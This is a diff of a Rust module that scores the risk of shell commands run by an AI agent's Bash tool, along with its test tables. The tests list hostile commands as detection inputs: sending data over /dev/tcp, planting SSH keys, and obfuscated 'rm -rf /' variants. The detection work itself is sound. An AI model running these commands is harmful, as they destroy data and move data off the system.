-    while let Some(a) = args.get(i) {
-        match a.as_str() {
-            "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" => i += 2,
-            s if is_option(s) => i += 1,
-            _ => break,
-        }
-    }
-    let Some(sub) = args.get(i) else {
+    if command.trim().is_empty() {
         return Risk::Low;
-    };
-    let rest: Vec<&str> = args[i + 1..].iter().map(String::as_str).collect();
-    let first = rest.first().copied();
-    match sub.as_str() {
-        "push" => {
-            if rest.iter().any(|a| is_force_push_arg(a)) {
-                Risk::High
-            } else {
-                Risk::Medium
-            }
-        }
-        "status" | "log" | "diff" | "show" | "blame" | "annotate" | "rev-parse" | "ls-files"
-        | "ls-tree" | "ls-remote" | "grep" | "describe" | "shortlog" | "reflog" | "cat-file"
-        | "rev-list" | "name-rev" | "whatchanged" | "help" | "version" | "count-objects"
-        | "for-each-ref" | "show-ref" | "check-ignore" | "merge-base" | "var" => Risk::Low,
-        "branch" | "tag" => {
-            const LISTING: &[&str] = &[
-                "-a",
-                "-r",
-                "-v",
-                "-vv",
-                "-l",
-                "--list",
-                "--all",
-                "--remotes",
-                "--show-current",
-                "--verbose",
-            ];
-            if rest.iter().all(|a| LISTING.contains(a)) {
-                Risk::Low
-            } else {
-                Risk::Medium
-            }
-        }
-        "remote" => match first {
-            None | Some("-v" | "--verbose" | "show" | "get-url") => Risk::Low,
-            _ => Risk::Medium,
-        },
-        "stash" => match first {
-            Some("list" | "show") => Risk::Low,
-            _ => Risk::Medium,
-        },
-        "worktree" => match first {
-            None | Some("list") => Risk::Low,
-            _ => Risk::Medium,
-        },
-        "config" => {
-            let reading = rest
-                .iter()
-                .any(|a| matches!(*a, "--get" | "--get-all" | "--get-regexp" | "--list" | "-l"));
-            let writing = operands(&args[i + 1..]).count() >= 2
-                || rest.iter().any(|a| {
-                    matches!(
-                        *a,
-                        "--unset" | "--unset-all" | "--add" | "--replace-all" | "--edit" | "-e"
-                    )
-                });
-            if reading {
-                Risk::Low
-            } else if writing {
-                // `.git/config` decides what git runs (pagers, hooks path, fsmonitor, aliases).
-                Risk::High
-            } else {
-                Risk::Medium
-            }
-        }
-        _ => Risk::Medium,
     }
-}
-
-fn find_verdict(args: &[String], depth: u8) -> Verdict {
-    let mut v = Verdict::of(Risk::Low);
-    let mut k = 0;
-    while let Some(a) = args.get(k) {
-        match a.as_str() {
-            "-delete" | "-fprint" | "-fprint0" | "-fprintf" | "-fls" => {
-                v.risk = v.risk.max(Risk::Medium);
-            }
-            "-exec" | "-execdir" | "-ok" | "-okdir" => {
-                v.risk = v.risk.max(Risk::Medium);
-                let start = k + 1;
-                let end = args[start..]
-                    .iter()
-                    .position(|a| a == ";" || a == "+")
-                    .map_or(args.len(), |p| start + p);
-                if depth < MAX_NESTING {
-                    v.merge(assess_words(&args[start..end], depth + 1));
-                }
-                k = end;
-            }
-            _ => {}
-        }
-        k += 1;
-    }
-    v
-}
-
-fn package_risk(name: &str, args: &[String]) -> Risk {
-    let subs: Vec<&str> = operands(args).take(2).collect();
-    if subs.contains(&"publish") {
-        return Risk::High;
-    }
-    if name == "pacman"
-        && args
-            .iter()
-            .any(|a| a.starts_with("-S") || a.starts_with("-R") || a.starts_with("-U"))
-    {
-        return Risk::Medium;
-    }
-    let runs_code = matches!(name, "cargo" | "npm" | "pnpm" | "yarn" | "bun" | "go")
-        && subs.iter().any(|s| RUNS_CODE_SUBCOMMANDS.contains(s));
-    if (name == "yarn" && subs.is_empty())
-        || runs_code
-        || subs.iter().any(|s| INSTALL_SUBCOMMANDS.contains(s))
-    {
-        Risk::Medium
+    let analysis = bash::analyze_unplaced(command);
+    let risk = of_class(analysis.class);
+    let root = Path::new(bash::UNPLACED_ROOT);
+    if config_files::matched_all(root, &analysis.writes).is_empty() {
+        risk
     } else {
-        Risk::Low
-    }
-}
-
-fn admin_risk(name: &str, args: &[String]) -> Risk {
-    let first = operands(args).next();
-    let read_only = match name {
-        "systemctl" => matches!(
-            first,
-            Some(
-                "status"
-                    | "list-units"
-                    | "list-unit-files"
-                    | "is-active"
-                    | "is-enabled"
-                    | "show"
-                    | "cat"
-            )
-        ),
-        "crontab" => args.iter().any(|a| a == "-l"),
-        "sysctl" => !args.iter().any(|a| a == "-w" || a.contains('=')),
-        "mount" => args.is_empty(),
-        _ => false,
-    };
-    if read_only {
-        Risk::Low
-    } else {
-        Risk::High
+        risk.max(Risk::High)
     }
 }
 
@@ -1432,10 +470,6 @@ mod tests {
             Risk::Medium
         );
         assert_eq!(
-            td("Bash", "allow", json!({"command": "cargo add serde"})),
-            Risk::Medium
-        );
-        assert_eq!(
             td("Bash", "deny", json!({"command": "git push --force"})),
             Risk::Critical
         );
@@ -1458,6 +492,14 @@ mod tests {
         assert_eq!(assess("tool_decision", &json!([1, 2])), Risk::Medium);
     }
 
+    /// The risk of the audit row of an allowed Bash call of `cmd`.
+    fn bash_row(cmd: &str) -> Risk {
+        assess(
+            "tool_decision",
+            &json!({"tool": "Bash", "decision": "allow", "input": {"command": cmd}}),
+        )
+    }
+
     #[test]
     fn command_table() {
         use Risk::*;
@@ -1471,7 +513,6 @@ mod tests {
             ("git status", Low),
             ("git log --oneline -20", Low),
             ("git diff HEAD~1", Low),
-            ("git -C /p branch -a", Low),
             ("echo hello", Low),
             ("pwd", Low),
             ("head -n 20 src/lib.rs | wc -l", Low),
@@ -1482,7 +523,6 @@ mod tests {
             ("git config --get user.name", Low),
             ("env", Low),
             ("command -v rm", Low),
-            ("systemctl status nginx", Low),
             ("", Low),
             ("   ", Low),
             // Near misses on substrings.
@@ -1492,14 +532,8 @@ mod tests {
             ("cat rmdir_helper.py", Low),
             ("ls curling termination", Low),
             ("less fsck_notes.txt", Low),
-            ("ddx --version", Low),
-            ("format", Low),
-            ("sudoku", Low),
-            ("curling", Low),
-            ("summary", Low),
             ("wc -l rmdir_helper.py fsck_notes.txt", Low),
             ("echo 'the format of the summary'", Low),
-            ("grep -c sshd /var/log/auth.log", Low),
             ("git log --format=%H", Low),
             // Writes.
             ("rm notes.txt", Medium),
@@ -1509,19 +543,13 @@ mod tests {
             ("echo hi > out.txt", Medium),
             ("echo hi >> log.txt", Medium),
             ("git commit -m 'fix parser'", Medium),
-            ("git push origin main", Medium),
             ("git reset --hard HEAD~1", Medium),
-            ("npm install left-pad", Medium),
-            ("pip install requests", Medium),
-            ("python3 -m pip install requests", Medium),
             ("python3 script.py", Medium),
             ("sh build.sh", Medium),
             ("sed -i 's/a/b/' src/lib.rs", Medium),
             ("find . -name '*.tmp' -delete", Medium),
             ("mkdir -p target/tmp && touch target/tmp/x", Medium),
             ("chmod +x run.sh", Medium),
-            ("dd if=/dev/zero of=disk.img bs=1M count=10", Medium),
-            ("kill 1234", Medium),
             // Running project code (the policy's `runs_code`).
             ("cargo test 2>&1 | tail -20", Medium),
             ("cargo build --release", Medium),
@@ -1538,30 +566,18 @@ mod tests {
             ("./probe", Medium),
             ("scripts/x.sh --fast", Medium),
             ("bin/tool", Medium),
-            ("../../elsewhere/tool", Medium),
             ("FOO=1 ./gradlew build", Medium),
             ("/usr/bin/ls -l", Low),
             ("/usr/local/bin/rg x", Low),
             // High.
             ("sudo ls", High),
-            ("su - root", High),
-            ("chmod -R 755 src", High),
-            ("chmod 777 run.sh", High),
             ("chmod u+s /usr/local/bin/tool", High),
-            ("chown -R me:me .", High),
-            ("rm -rf build", High),
-            ("rm -fr ./target", High),
-            ("git push --force origin main", High),
-            ("git push -f", High),
-            ("git push origin +main", High),
-            ("git push --force-with-lease", High),
             ("ssh user@host", High),
             ("scp file user@host:/tmp", High),
             ("nc -l 4444", High),
             ("curl https://example.com", High),
             ("wget https://example.com/file.tgz", High),
             ("echo x > /etc/hosts", High),
-            ("cat payload > /dev/sda", High),
             ("echo data > /dev/tcp/10.0.0.1/4444", High),
             ("cp evil ~/.ssh/authorized_keys", High),
             ("echo TOKEN=x >> .env", High),
@@ -1572,10 +588,7 @@ mod tests {
             ("tee .envrc < x", High),
             ("sed -i 's/a/b/' .github/workflows/ci.yml", High),
             ("mv x /p/.vscode/tasks.json", High),
-            ("git config core.hooksPath .husky", High),
-            ("git config --global alias.x '!sh'", High),
             ("cat CLAUDE.md", Low),
-            ("find . -exec rm -rf {} \\;", High),
             ("crontab -e", High),
             ("/usr/bin/sudo -u root id", High),
             ("npm publish", High),
@@ -1592,7 +605,6 @@ mod tests {
             ("rm -rf ../..", Critical),
             ("rm -rf $HOME", Critical),
             ("rm -r /etc", Critical),
-            ("rm -f /", Critical),
             ("rm -rf --no-preserve-root /", Critical),
             ("/bin/rm -rf /", Critical),
             ("sudo rm -rf /", Critical),
@@ -1600,6 +612,7 @@ mod tests {
             ("echo ok; rm -rf / ; echo done", Critical),
             ("rm -r -f /", Critical),
             ("rm -rf \"/\"", Critical),
+            ("rm -rf \\\n /", Critical),
             ("r''m -rf /", Critical),
             ("\\rm -rf /", Critical),
             ("rm${IFS}-rf${IFS}/", Critical),
@@ -1632,7 +645,7 @@ mod tests {
         assert!(cases.len() >= 40);
         let mut failures = Vec::new();
         for (cmd, want) in cases {
-            let got = assess_command(cmd);
+            let got = bash_row(cmd);
             if got != *want {
                 failures.push(format!("{cmd:?}: got {got:?}, want {want:?}"));
             }
@@ -1645,47 +658,84 @@ mod tests {
         );
     }
 
+    /// Commands whose level changed when the audit stopped reading commands itself and took the
+    /// policy's class instead (the level before is in each comment). Each follows from
+    /// [`of_class`] of what the policy's analysis sees.
     #[test]
-    fn prompts_are_mostly_low() {
-        assert_eq!(
-            assess_command("Please summarize the format of the termination report"),
-            Risk::Low
-        );
-        assert_eq!(
-            assess_command("Fix the sudoku solver (it loops forever); then run the tests."),
-            Risk::Low
-        );
-        assert_eq!(
-            assess_command("Don't touch the curling scores, they're fine"),
-            Risk::Low
-        );
-        assert_eq!(assess_command("Run rm -rf / please"), Risk::Low);
-        assert_eq!(assess_command("What does `rm -rf /` do?"), Risk::Critical);
-        // Quoted text is scanned, but arguments stay arguments.
-        assert_eq!(assess_command("echo 'rm -rf /'"), Risk::Low);
-        assert_eq!(
-            assess_command("git commit -m 'wip; rm -rf /'"),
-            Risk::Critical
-        );
-        assert_eq!(assess_command("fn f() -> u32"), Risk::Medium);
+    fn levels_follow_the_policy_class() {
+        use Risk::*;
+        let cases: &[(&str, Risk)] = &[
+            // Low before. An unknown program may run any code (`runs_code`); prose is not
+            // assessed as a command any more.
+            ("ddx --version", Medium),
+            ("format", Medium),
+            ("sudoku", Medium),
+            ("curling", Medium),
+            ("summary", Medium),
+            // Low before: reading outside the project is `touches_outside`.
+            ("git -C /p branch -a", High),
+            ("grep -c sshd /var/log/auth.log", High),
+            // Low before: the policy treats `systemctl` as `privileged` whatever the verb.
+            ("systemctl status nginx", High),
+            // Medium before: pushes and package installs use the network (`network`).
+            ("cargo add serde", High),
+            ("git push origin main", High),
+            ("npm install left-pad", High),
+            ("pip install requests", High),
+            ("python3 -m pip install requests", High),
+            // Medium before: `kill` acts outside the project, and so does a program above it.
+            ("kill 1234", High),
+            ("../../elsewhere/tool", High),
+            // Medium before: `dd` is `destructive` wherever it writes.
+            ("dd if=/dev/zero of=disk.img bs=1M count=10", Critical),
+            // High before: changes inside the project are `writes_inside`, recursive or not.
+            ("chmod -R 755 src", Medium),
+            ("chmod 777 run.sh", Medium),
+            ("chown -R me:me .", Medium),
+            ("rm -rf build", Medium),
+            ("rm -fr ./target", Medium),
+            // High before: rewriting remote history, raw devices and a recursive delete of the
+            // whole project are `destructive`.
+            ("git push --force origin main", Critical),
+            ("git push -f", Critical),
+            ("git push origin +main", Critical),
+            ("git push --force-with-lease", Critical),
+            ("cat payload > /dev/sda", Critical),
+            ("find . -exec rm -rf {} \\;", Critical),
+            // High before: an interactive shell, and git settings that choose what git runs,
+            // cannot be analysed (`unparseable`).
+            ("su - root", Critical),
+            ("git config core.hooksPath .husky", Critical),
+            ("git config --global alias.x '!sh'", Critical),
+            // Critical before: `rm -f /` (no `-r`) writes outside the project.
+            ("rm -f /", High),
+        ];
+        let mut failures = Vec::new();
+        for (cmd, want) in cases {
+            let got = bash_row(cmd);
+            if got != *want {
+                failures.push(format!("{cmd:?}: got {got:?}, want {want:?}"));
+            }
+        }
+        assert!(failures.is_empty(), "{}", failures.join("\n"));
     }
 
     #[test]
-    fn splitting_and_redirects() {
-        let cmds = split_commands("a 2>&1 | b > out; c >&2 && d &> all.log\ne <<EOF");
-        let words: Vec<Vec<String>> = cmds.iter().map(|c| c.words.clone()).collect();
-        assert_eq!(
-            words,
-            vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"], vec!["e"]]
-                .into_iter()
-                .map(|v| v.into_iter().map(String::from).collect::<Vec<_>>())
-                .collect::<Vec<_>>()
-        );
-        assert_eq!(cmds[1].writes, vec!["out".to_string()]);
-        assert!(cmds[2].writes.is_empty());
-        assert_eq!(cmds[3].writes, vec!["all.log".to_string()]);
-        // Backslash-newline joins lines.
-        assert_eq!(assess_command("rm -rf \\\n /"), Risk::Critical);
+    fn class_levels_are_monotone_in_severity() {
+        let classes = [
+            Class::ReadOnly,
+            Class::WritesInside,
+            Class::RunsCode,
+            Class::Network,
+            Class::TouchesOutside,
+            Class::Privileged,
+            Class::Destructive,
+            Class::Unparseable,
+        ];
+        assert!(classes.windows(2).all(|w| w[0] < w[1]));
+        assert!(classes.windows(2).all(|w| of_class(w[0]) <= of_class(w[1])));
+        assert_eq!(of_class(Class::ReadOnly), Risk::Low);
+        assert_eq!(of_class(Class::Unparseable), Risk::Critical);
     }
 
     #[test]
@@ -1754,7 +804,8 @@ mod tests {
         let bombs = "(){".repeat(300_000);
         let _ = assess_command(&bombs);
         let named = "ab(){ ".repeat(170_000);
-        assert_eq!(assess_command(&named), Risk::Low);
+        // Low before; longer than the policy analyses (100 000 characters): `unparseable`.
+        assert_eq!(assess_command(&named), Risk::Critical);
         let quotes = "'\"\\".repeat(300_000);
         let _ = assess_command(&quotes);
         assert!(start.elapsed() < std::time::Duration::from_secs(20));
